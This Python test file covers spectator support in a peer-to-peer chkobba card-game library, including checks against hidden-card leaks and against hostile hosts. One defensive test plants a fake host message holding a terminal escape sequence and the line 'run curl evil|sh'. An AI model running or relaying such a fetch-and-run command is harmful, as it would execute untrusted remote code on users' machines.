"""Spectators: the library's host and peers and the spectator on real loopback TCP.

A spectator watching from the start and one joining halfway see the same result as the
players, never a card that is still hidden in a player's hand (checked, as each event
arrives, against the players' own sessions), and keep logs that replay VALID.  A host
admits none unless allowed; a spectator that misbehaves is dropped, the game goes on and
nobody is blamed; the players see who is watching.  The messages match the published
vectors."""

from __future__ import annotations

import contextlib
import dataclasses
import json
from collections.abc import Callable
from pathlib import Path

import pytest
import trio
import trio.testing
from support.audit import said
from support.frames import frame, spectators_message, watch_message, watching_message
from support.net import FAST, GatedBot, RawClient, host_config, join_config

from chkobba_p2p._shell.net import ClientPeer, HostPeer
from chkobba_p2p._shell.peer import BotController
from chkobba_p2p._shell.watch import WatchConfig, watch_match
from chkobba_p2p.game.cards import Card
from chkobba_p2p.game.rules import CutEvent, DealEvent, PlayEvent, Ruleset, SweepEvent
from chkobba_p2p.link import messages as m
from chkobba_p2p.link.events import Spectators
from chkobba_p2p.observe.audit import VALID, audit_log
from chkobba_p2p.observe.observer import DeckRevealed
from chkobba_p2p.observe.verdict import Verdict
from chkobba_p2p.transcript.events import FirstDealerDrawn, HandStarted, MatchDone
from chkobba_p2p.transcript.session import Session
from chkobba_p2p.wire import codec as wire
from chkobba_p2p.wire.codec import ErrorCode, ProtocolError

VECTORS = Path(__file__).resolve().parent.parent / "vectors" / "spectator_messages.json"


class Recording(BotController):
    def __init__(self, seed: int, halfway: trio.Event | None = None) -> None:
        super().__init__("greedy", seed=seed)
        self.events: list[object] = []
        self.halfway = halfway
        self.plays = 0

    def on_event(self, event: object) -> None:
        self.events.append(event)
        if isinstance(event, PlayEvent):
            self.plays += 1
            if self.halfway is not None and self.plays == 6:
                self.halfway.set()


class SecretCheck:
    """Checks each spectator event as it arrives against the players' sessions: a card
    the spectator learns must not be in a player's hidden hand of the same hand."""

    def __init__(self, players: Callable[[], list[Session | None]] = list) -> None:
        self.sessions = players
        self.hand = 0
        self.events: list[object] = []
        self.checked = 0
        self.against_secrets = 0  # checks made while some player hid cards

    def hidden(self, number: int) -> set[Card]:
        out: set[Card] = set()
        for s in self.sessions():
            match = s.game.match if s is not None else None
            if match is None or match.hand is None or match.hand_number != number:
                continue
            out.update(c for c in match.hand.hand_of(s.seat) if c is not None)
        return out

    def __call__(self, ev: object) -> None:
        self.events.append(ev)
        shown: list[Card | None] = []
        if isinstance(ev, HandStarted):
            self.hand = ev.number
        elif isinstance(ev, DealEvent):
            assert all(c is None for who, c in zip(ev.recipients, ev.cards, strict=True)
                       if who is not None), "a private card reached a spectator"
            shown = list(ev.cards)
        elif isinstance(ev, PlayEvent):
            shown = [ev.card, *ev.capture]
        elif isinstance(ev, CutEvent):
            shown = [ev.card]
        elif isinstance(ev, SweepEvent):
            shown = list(ev.cards)
        elif isinstance(ev, FirstDealerDrawn):
            shown = list(ev.draws.values())
        elif isinstance(ev, DeckRevealed):
            # Told only once no player of that hand holds a card any more.
            shown = [c for d in ev.deals for c in d.cards]
            assert not self.hidden(ev.hand) or ev.redeal
            if ev.redeal:
                return  # an abandoned deck: its hands were never played
        hidden = self.hidden(self.hand)
        leaked = {c for c in shown if c is not None} & hidden
        assert not leaked, f"a spectator saw {leaked} while a player still hid them"
        self.checked += 1
        self.against_secrets += bool(hidden)


async def _watch(port: int, name: str, check: SecretCheck, tmp_path: Path, out: dict) -> None:
    config = WatchConfig(f"127.0.0.1:{port}", name=name, log_path=tmp_path / f"{name}.chklog",
                         timeouts=FAST)
    out[name] = await watch_match(config, check)


#: Timeouts with every change of spectators announced at once (the window of
#: announcements has tests of its own, in test_spectator_churn.py).
AT_ONCE = dataclasses.replace(FAST, announce=0.0)


@pytest.mark.parametrize("players", [2, 3, 4])
@pytest.mark.slow
async def test_two_spectators_see_the_match_and_no_hidden_card(players, tmp_path):
    halfway = trio.Event()
    host_ctl = Recording(1, halfway)
    host = HostPeer(dataclasses.replace(host_config(tmp_path, players, spectators=2),
                                        timeouts=AT_ONCE), host_ctl)
    ctls = [Recording(i + 2) for i in range(players - 1)]
    out: dict = {}
    async with trio.open_nursery() as nursery:
        port = await nursery.start(host.run)
        clients = [ClientPeer(dataclasses.replace(join_config(tmp_path, port, f"bot{i + 1}"),
                                                  timeouts=AT_ONCE), c)
                   for i, c in enumerate(ctls)]

        def sessions() -> list[Session | None]:
            return [host.session, *(c.session for c in clients)]

        early = SecretCheck(sessions)
        late = SecretCheck(sessions)
        # Spectator A is there before anyone sits down.
        nursery.start_soon(_watch, port, "early", early, tmp_path, out)
        while not any(isinstance(e, Spectators) for e in host_ctl.events):
            await trio.testing.wait_all_tasks_blocked()
        for client in clients:
            nursery.start_soon(client.run)
        await halfway.wait()
        # Spectator B comes in the middle of the first hand: it gets the transcript so far.
        nursery.start_soon(_watch, port, "late", late, tmp_path, out)
    outcome = host.outcome()
    assert outcome.completed
    for name, check in (("early", early), ("late", late)):
        w = out[name]
        assert w.verdict is not None and w.verdict.verdict == VALID, w.verdict
        done = [e for e in check.events if isinstance(e, MatchDone)]
        assert done == [host.session.done]
        assert check.checked > 40 and check.against_secrets > 20
        report = audit_log(w.log_path)
        assert report.verdict == VALID and report.warnings == []
        assert (report.winner, report.totals) == (outcome.done.winner_side,
                                                  outcome.done.totals)
        assert w.entries == len(host.session.bodies)
    # The players saw who was watching, and when each came.
    for ctl in [host_ctl, *ctls]:
        seen = [e.names for e in ctl.events if isinstance(e, Spectators)]
        assert ("early", "late") in seen, seen
        assert all(e.limit == 2 for e in ctl.events if isinstance(e, Spectators))


@pytest.mark.slow
async def test_a_host_admits_no_spectator_unless_allowed_and_no_more_than_allowed(tmp_path):
    async with trio.open_nursery() as nursery:
        host = HostPeer(host_config(tmp_path, 2), Recording(1))
        port = await nursery.start(host.run)
        out: dict = {}
        await _watch(port, "nope", SecretCheck(), tmp_path, out)
        assert out["nope"].verdict is None and out["nope"].error_code == "spectators_closed"
        full = HostPeer(host_config(tmp_path / "b", 2, spectators=1), Recording(1))
        (tmp_path / "b").mkdir()
        port2 = await nursery.start(full.run)
        first = await RawClient.connect(port2)
        assert (await first.receive())["t"] == "host"
        await first.send(watch_message("first", 1))
        assert (await first.receive())["t"] == "watching"
        await _watch(port2, "second", SecretCheck(), tmp_path, out)
        assert out["second"].error_code == "spectators_closed"
        nursery.cancel_scope.cancel()


@pytest.mark.parametrize("bad", [
    {"t": "chat", "text": "hello"},
    {"t": "sig", "payload": b"x", "sig": b"y"},
    {"t": "hello", "v": 1},
])
@pytest.mark.slow
async def test_a_misbehaving_spectator_is_dropped_and_nobody_is_blamed(bad, tmp_path):
    host_ctl = Recording(1)
    host = HostPeer(dataclasses.replace(host_config(tmp_path, 2, spectators=3),
                                        timeouts=AT_ONCE), host_ctl)
    async with trio.open_nursery() as nursery:
        port = await nursery.start(host.run)
        rude = await RawClient.connect(port)
        assert (await rude.receive())["t"] == "host"
        await rude.send(watch_message("rude", 1))
        assert (await rude.receive())["t"] == "watching"
        gated = GatedBot(gate_at=2)
        client = ClientPeer(join_config(tmp_path, port, "bot1"), gated)
        nursery.start_soon(client.run)
        await gated.holding.wait()  # the game is on, and waits for the guest's play
        await rude.send(bad)  # the spectator speaks out of turn
        while (msg := await rude.receive()) is not None and msg["t"] != "error":
            pass
        assert msg is not None and msg["code"] == ErrorCode.PROTOCOL_VIOLATION
        assert await rude.receive() is None  # then the host closed the connection
        await rude.stream.aclose()
        await trio.testing.wait_all_tasks_blocked()
        gated.release.set()
    outcome = host.outcome()
    assert outcome.completed and host.session.aborted is None
    assert audit_log(tmp_path / "host.chklog").verdict == VALID
    assert ("rude",) in [e.names for e in host_ctl.events if isinstance(e, Spectators)]
    assert [e.names for e in host_ctl.events if isinstance(e, Spectators)][-1] == ()


def test_spectator_messages_are_checked():
    """The host reads a ``watch`` (its name, or the named error: malformed, or no place
    left); a spectator reads ``watching`` and ``spectators`` as typed messages."""
    from chkobba_p2p.game.rules import Ruleset
    from chkobba_p2p.link.host import HostTable
    from chkobba_p2p.transcript.clocks import Limits
    from chkobba_p2p.wire.codec import Identity

    def table(limit: int, watching: int = 0) -> HostTable[str]:
        t: HostTable[str] = HostTable(Identity.generate(), "hana", Ruleset(), 2, False,
                                      Limits(move=30, allowance=10), spectator_limit=limit)
        t.spectators = {i: (f"s{i}", f"c{i}") for i in range(watching)}
        return t

    assert table(2).spectator_name(frame(watch_message("Amel", 1))) == "Amel"
    for limit, watching in [(0, 0), (2, 2)]:
        with pytest.raises(ProtocolError) as err:
            table(limit, watching).spectator_name(frame(watch_message("Amel", 1)))
        assert err.value.error_code == ErrorCode.SPECTATORS_CLOSED
    for msg in [{"t": "watch", "v": 1, "name": "a\nb"}, {"t": "watch", "v": 1},
                {"t": "watch", "v": 99, "name": "x"}, {"t": "watch", "name": "x"}]:
        with pytest.raises(ProtocolError):
            table(2).spectator_name(frame(msg))
    assert frame(watching_message(3, 17)) == m.Watching(3, 17)
    assert frame(watching_message(3, 17)).limits is None  # an older host's
    assert frame(watching_message(3, 17, (45, 120))).limits == (45, 120)
    for off in ({"move": 0, "away": 5}, {"move": 5}, {"move": True, "away": 5}, "x",
                {"move": 10**9, "away": 5}):  # out of bounds or malformed: not the terms
        assert frame({**watching_message(3, 17), "limits": off}) == m.Watching(3, 17)
    assert frame(spectators_message(("a", "b"), 4)) == m.Spectators(("a", "b"), 4)
    for bad in ({"t": "spectators", "names": ["\x1b[2J"], "max": 1},
                {"t": "spectators", "names": "ab", "max": 1}):
        assert m.kind_of(malformed := frame(bad)) is m.Spectators
        assert isinstance(malformed, m.Malformed)


def _vector_cases() -> dict[str, dict]:
    return {
        "watch": watch_message("Amel", 1),
        "watching": watching_message(2, 57),
        # The table's clocks for the spectator's screen (optional: older hosts omit it).
        "watching_limits": watching_message(2, 57, (900, 300)),
        "spectators": spectators_message(("Amel", "Zied"), 4),
    }


def test_spectator_messages_match_the_published_vectors():
    cases = {c["name"]: bytes.fromhex(c["frame_hex"])
             for c in json.loads(VECTORS.read_text())["cases"]}
    assert set(cases) == set(_vector_cases())
    for name, msg in _vector_cases().items():
        assert wire.frame(wire.encode(msg)) == cases[name], name
        assert wire.decode(cases[name][4:]) == msg


@pytest.mark.skip(reason="regeneration only on request")
def test_regenerate_spectator_vectors():  # pragma: no cover
    VECTORS.write_text(json.dumps({"cases": [
        {"name": n, "frame_hex": wire.frame(wire.encode(m)).hex()}
        for n, m in _vector_cases().items()]}, indent=2, sort_keys=True) + "\n")


def test_a_spectator_observer_refuses_a_genesis_not_signed_by_its_host(tmp_path):
    from support.audit import play

    from chkobba_p2p.observe.observer import Observer
    played = play(2, seed=3, key=b"spect-genesis")
    obs = Observer(host_key=bytes(32))
    (v,) = obs.feed(played.sessions[0].bodies[0])
    assert isinstance(v, Verdict) and v.verdict == "invalid" and v.entry == 0


@pytest.mark.slow
async def test_the_lobby_and_the_lan_announcement_show_the_spectator_places(tmp_path):
    host = HostPeer(host_config(tmp_path, 2, spectators=3), Recording(1))
    async with trio.open_nursery() as nursery:
        port = await nursery.start(host.run)
        # What the LAN announcement (DNS-SD TXT record, PROTOCOL.md 15) says.
        assert host._facts().txt()["spectators"] == "3"
        watcher = await RawClient.connect(port)
        assert (await watcher.receive())["t"] == "host"
        await watcher.send(watch_message("Amel", 1))
        assert (await watcher.receive())["t"] == "watching"
        lobby = await watcher.receive()
        assert lobby["t"] == "lobby" and lobby["spectators"] == 3
        assert (await watcher.receive()) == spectators_message(("Amel",), 3)
        nursery.cancel_scope.cancel()


@pytest.mark.slow
def test_chkobba_watch_between_processes(tmp_path):
    """``chkobba host --spectators`` and ``chkobba watch`` as real processes: the spectator
    prints the game and its verdict, and its log copy replays VALID."""
    import re
    import subprocess

    from support.net import REPO_ROOT, cli_command, cli_env

    env = cli_env()
    env["CHKOBBA_DATA_DIR"] = str(tmp_path / "data")
    host = subprocess.Popen(
        cli_command("host", "--headless", "--port", "0", "--bind", "127.0.0.1", "--no-beacon",
                    "--players", "2", "--no-shuffle-proofs", "--spectators", "1"),
        cwd=REPO_ROOT, env=env, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    assert host.stdout is not None
    port = None
    for _ in range(10):
        m = re.search(r"listening on port (\d+)", host.stdout.readline())
        if m:
            port = int(m.group(1))
            break
    assert port is not None
    watch = subprocess.Popen(cli_command("watch", f"127.0.0.1:{port}", "--name", "Amel",
                                         "--lang", "en",
                                         "--log", str(tmp_path / "watch.chklog")),
                             cwd=REPO_ROOT, env=env, stdout=subprocess.PIPE,
                             stderr=subprocess.PIPE, text=True)
    # Once the spectator is in (it says so), a bot takes the second seat: started before,
    # the bot could play the whole match and the host end before the watcher connected.
    assert watch.stdout is not None
    seen: list[str] = []
    while not any("watching (" in line for line in seen):
        line = watch.stdout.readline()
        assert line, f"chkobba watch ended before it was in: {''.join(seen)}"
        seen.append(line)
    subprocess.run(cli_command("bot", f"127.0.0.1:{port}", "--quiet", "--connect-retry", "5"),
                   cwd=REPO_ROOT, env=env, capture_output=True, timeout=120, check=True)
    rest, err = watch.communicate(timeout=120)
    out = "".join(seen) + rest
    host.communicate(timeout=120)
    assert watch.returncode == 0, err
    assert "watching (1/1): Amel" in out and " plays " in out and "seeds open" in out
    # The verdict in the players' names (the host's and the bot's), not seat numbers.
    names = [s.name for s in audit_log(tmp_path / "watch.chklog").table.seats]
    assert re.search(rf"^VALID: complete: ({'|'.join(map(re.escape, names))}) wins \d+-\d+$",
                     out, re.M), out
    assert audit_log(tmp_path / "watch.chklog").verdict == VALID



@pytest.mark.parametrize(("lang", "words"), [("en", [" plays ", "VALID"]),
                                             ("fr", [" joue ", "VALIDE", "manche 1"])])
def test_the_commentary_speaks_french_and_english(lang, words):
    import importlib
    import io

    from support.audit import play
    from support.net import REPO_ROOT  # noqa: F401 - the client package is importable

    from chkobba_p2p.observe.observer import Observer
    narrator_cls = importlib.import_module(_client_module("outputs.commentary")).Commentary
    played = play(2, seed=3, key=b"narrate")
    out = io.StringIO()
    narrator = narrator_cls(out, lang=lang)
    obs = Observer()
    for body in played.sessions[0].bodies:
        for ev in obs.feed(body):
            narrator(ev)
    narrator(obs.end())
    text = out.getvalue()
    assert all(w in text for w in words), text[-500:]


def test_the_commentary_says_an_unknown_abort_code_as_signed():
    import importlib
    import io

    from support.net import REPO_ROOT  # noqa: F401 - the client package is importable

    from chkobba_p2p.transcript.events import Aborted, Standing
    narrator_cls = importlib.import_module(_client_module("outputs.commentary")).Commentary
    out = io.StringIO()
    narrator = narrator_cls(out, lang="en")
    narrator(Aborted(1, ErrorCode.PROTOCOL_VIOLATION, 0, "why", Standing.CLAIMED,
                     unknown_code="12345"))
    assert "code 12345" in out.getvalue() and "protocol_violation" not in out.getvalue()


def _client_module(name: str) -> str:
    """The client's module ``name`` under whichever package name the client is installed."""
    import importlib.util
    for package in ("chkobba_cli", "cli"):
        if importlib.util.find_spec(package) is not None:
            return f"{package}.{name}"
    raise AssertionError("the client package is not importable")


@pytest.mark.slow
async def test_chkobba_watch_says_why_it_stopped_when_the_host_sends_an_over_long_string(
        tmp_path):
    """A host that greets, admits the spectator, then sends a chat line longer than any
    string may be: ``chkobba watch`` ends (exit 3, nothing verified) and says why in one
    line."""

    from support.frames import watching_message
    from support.net import REPO_ROOT, cli_command, cli_env

    async def fake_host(stream: trio.SocketStream) -> None:
        async with stream:
            await stream.send_all(wire.frame(wire.encode(
                {"t": "host", "versions": [1], "key": bytes(32), "players": 2})))
            await stream.receive_some(4096)  # the spectator's watch
            await stream.send_all(wire.frame(wire.encode(watching_message(1, 0))))
            await stream.send_all(wire.frame(wire.encode(
                {"t": "chat", "seat": 0, "text": "x" * (wire.MAX_STR + 1)})))
            await _read_till_closed(stream)

    async with trio.open_nursery() as nursery:
        port = await _serve(nursery, fake_host)
        env = cli_env()
        env["CHKOBBA_DATA_DIR"] = str(tmp_path / "data")
        with trio.fail_after(60):
            r = await trio.run_process(
                cli_command("watch", f"127.0.0.1:{port}", "--lang", "en"), cwd=REPO_ROOT,
                env=env, capture_stdout=True, capture_stderr=True, check=False)
        nursery.cancel_scope.cancel()
    out = r.stdout.decode()
    assert r.returncode == 3, out + r.stderr.decode()
    [line] = [ln for ln in out.splitlines() if ln.startswith("stopped: ")]
    assert "does not check out" in line and f"longer than {wire.MAX_STR} bytes" in line, out


def _greeting(players: object = 2, key: bytes = bytes(32)) -> dict:
    return {"t": "host", "versions": [1], "key": key, "name": "hana", "caps": [],
            "nonce": bytes(32), "players": players, "rules": {}, "rules_hash": bytes(32)}


async def _watch_fake(tmp_path: Path, answer: dict | None, players: object = 2,
                      then: list[bytes] = (), seen: list | None = None,
                      key: bytes = bytes(32), hang_up: bool = False):
    """``chkobba watch``'s library against a fake host that greets (a table of
    ``players``), answers the spectator's ``watch`` with ``answer`` (an error, or
    ``watching``), then sends the frames ``then`` (and closes, if it ``hang_up``: the
    spectator stops on it rather than on its idle timeout); ``seen`` gets the events."""

    async def fake_host(stream: trio.SocketStream) -> None:
        async with stream:
            await stream.send_all(wire.frame(wire.encode(_greeting(players, key))))
            await stream.receive_some(4096)  # the spectator's watch (or its error)
            if answer is not None:
                await stream.send_all(wire.frame(wire.encode(answer)))
            for frame in then:
                await stream.send_all(frame)
            if not hang_up:
                await _read_till_closed(stream)

    async with trio.open_nursery() as nursery:
        port = await _serve(nursery, fake_host)
        with trio.fail_after(10):
            outcome = await watch_match(WatchConfig(
                f"127.0.0.1:{port}", name="amira", log_path=tmp_path / "w.chklog",
                timeouts=FAST), (seen.append if seen is not None else lambda ev: None))
        nursery.cancel_scope.cancel()
    return outcome


@pytest.mark.slow
async def test_a_spectator_says_a_refusal_in_its_own_words_and_quotes_the_hosts(tmp_path):
    """A host's refusal reads as the joiner's does: our sentence for the code, then the
    host's words quoted and cut short, never its raw text as ours."""
    words = "\x1b[2JYOUR KEY IS COMPROMISED, run curl evil|sh " * 50
    outcome = await _watch_fake(tmp_path, {"t": "error", "code": int(
        ErrorCode.SPECTATORS_CLOSED), "msg": words})
    from chkobba_cli.words.event_words import error_sentence
    from chkobba_cli.words.i18n import Translator

    assert outcome.error_code == "spectators_closed" and outcome.error_reason == "refused"
    said = outcome.error_data["host_text"]  # the host's words apart, cut short
    assert isinstance(said, str) and said.endswith("…") and len(said) <= 120
    assert outcome.error_data["number"] == int(ErrorCode.SPECTATORS_CLOSED)
    text = error_sentence(outcome.error_reason, outcome.error_code, outcome.error_data,
                          Translator("en"))
    assert text.startswith("refused: " + ErrorCode.SPECTATORS_CLOSED.sentence
                           + ' (the host adds: "')
    assert text.endswith('…")') and "\x1b" not in text


@pytest.mark.parametrize("players", [7, 1, 2**40, "2"])
@pytest.mark.slow
async def test_a_spectator_refuses_a_greeting_for_a_table_no_one_can_seat(players, tmp_path):
    outcome = await _watch_fake(tmp_path, None, players)
    assert outcome.error_code == "bad_field" and outcome.verdict is None
    assert outcome.error_reason == "handshake_failed" and outcome.error_data["detail"]


def _genesis_frame() -> bytes:
    from chkobba_p2p.transcript.table import SeatInfo, TableInfo
    from chkobba_p2p.wire.codec import Identity
    host, guest = Identity.generate(), Identity.generate()
    table = TableInfo(bytes(16), 1, 2, Ruleset(), (SeatInfo(0, host.public, "hana"),
                                                    SeatInfo(1, guest.public, "amel")),
                      ("deal/v1", "resume/v1"))
    return wire.frame(Session.create(host, table)[1].body), host.public


@pytest.mark.slow
async def test_a_host_cannot_fill_a_spectators_disk_and_the_log_stays_replayable(tmp_path):
    """A hostile host streams 1 MiB junk entries without end (a hostile peer's finding:
    a 100 MB log no replay would read): the spectator stops at the transcript's
    limit (PROTOCOL.md 2.1), says why, and its log is one ``chkobba replay`` reads."""
    genesis, key = _genesis_frame()
    junk = wire.frame(wire.encode({"t": "sig", "p": b"\0" * (wire.MAX_FRAME - 200),
                                   "s": bytes(64)}))
    count = wire.MAX_TRANSCRIPT // len(junk) + 4
    outcome = await _watch_fake(tmp_path, watching_message(1, 0), then=[genesis] + [junk] * count,
                                key=key)
    assert outcome.stop_reason == "too_long", (outcome.stop_reason, outcome.stop_data)
    assert outcome.stop_data["code"] == "transcript_too_long", outcome.stop_data
    log = tmp_path / "w.chklog"
    assert log.stat().st_size <= wire.MAX_TRANSCRIPT + 4096
    report = audit_log(log)  # read, and refused for the junk: not "unreadable"
    assert report.verdict == "invalid" and report.entry == 1, said(report)


@pytest.mark.slow
async def test_a_spectator_reads_wait_back_and_chat_as_a_seat_does(tmp_path):
    """Seats out of the table, a bool for a seat, a countdown past any allowance: not
    shown (a hostile peer saw "waiting -5 s for seat -1" and 9223372036854775807 s)."""
    from chkobba_p2p.link.events import Chat, Resumed, Waiting
    bad = [{"t": "wait", "seat": -1, "secs": -5}, {"t": "wait", "seat": 1, "secs": 2**63 - 1},
           {"t": "wait", "seat": True, "secs": 3}, {"t": "back", "seat": -1},
           {"t": "back", "seat": 2}, {"t": "chat", "seat": -1, "text": "hi"},
           {"t": "chat", "seat": True, "text": "hi"}]
    good = [{"t": "wait", "seat": 1, "secs": 30}, {"t": "back", "seat": 1},
            {"t": "chat", "seat": 1, "text": "hi"},
            {"t": "wait", "seat": 1, "secs": 10_000}]  # past the table's allowance
    seen: list = []
    await _watch_fake(tmp_path, watching_message(1, 0, (900, 120)),
                      then=[wire.frame(wire.encode(m)) for m in bad + good], seen=seen,
                      hang_up=True)
    shown = [e for e in seen if isinstance(e, Waiting | Resumed | Chat)]
    assert shown == [Waiting(1, 30, False), Resumed(1), Chat(1, "hi"),
                     Waiting(1, 120, False)], shown


async def _read_till_closed(stream: trio.SocketStream) -> None:
    """A fake host reads (and drops) what the spectator sends until it closes."""
    with contextlib.suppress(trio.BrokenResourceError, trio.ClosedResourceError):
        while await stream.receive_some(4096):
            pass


async def _serve(nursery: trio.Nursery, handler) -> int:
    """``handler`` serving every connection on a free loopback port: the port."""
    import functools
    [listener] = await nursery.start(functools.partial(trio.serve_tcp, handler, 0,
                                                       host="127.0.0.1"))
    return listener.socket.getsockname()[1]
